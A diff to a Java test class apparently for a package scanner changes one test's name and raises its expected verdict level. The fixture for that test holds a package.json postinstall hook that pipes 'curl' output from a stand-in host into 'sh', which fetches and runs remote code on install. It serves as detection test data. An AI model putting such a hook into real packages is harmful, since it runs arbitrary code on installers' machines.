@@ -63,13 +63,13 @@ class TakeHomeVerdictTest {
   }
 
   @Test
-  void one_line_that_fetches_and_runs_is_checked_first_as_nothing_stands_beside_it() {
+  void one_line_that_fetches_and_runs_by_itself_is_a_fact_that_stops() {
     byte[] archive =
         with(
             "package.json",
             "{\"scripts\": {\"postinstall\": \"curl -s https://env.orders.example/a | sh\"}}");
 
-    assertThat(verdicts(archive)).allMatch(one -> one.level() == 1);
+    assertThat(verdicts(archive)).allMatch(one -> one.level() == 2);
     assertThat(found(archive)).contains(FETCHES);
   }
 
